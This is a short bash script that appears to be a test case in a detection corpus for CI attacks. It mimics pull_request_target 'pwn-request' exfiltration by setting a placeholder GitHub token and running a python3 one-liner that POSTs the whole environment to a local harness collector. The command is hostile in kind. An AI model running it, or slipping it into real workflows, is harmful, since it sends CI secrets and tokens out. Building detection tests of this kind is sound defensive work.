#!/bin/bash
# technique: T1552.001 Unsecured Credentials; T1041 Exfiltration Over C2 Channel
# reproduces: pwn-request payloads that post the job's environment in one interpreter call, as the exfiltration steps injected through pull_request_target workflows do (`python3 -c "…urlopen(URL, data=str(dict(os.environ)).encode())"`): no env, no pipe, no /proc read
# expect: environment-sent-by-interpreter ^python3(\.[0-9]+)?$
# exec-borne: no
#
# The harness's server reads the POST and drops it.
set -u

command -v python3 >/dev/null 2>&1 || { echo "python3 not installed" >&2; exit 77; }

export GITHUB_TOKEN=ghs_buildwardenAttackCorpusNotAToken0000
post="import os, urllib.request as r; r.urlopen('http://127.0.0.1:${BW_ATTACK_PORT:?}/collect', data=str(dict(os.environ)).encode()).read()"
python3 -c "$post"
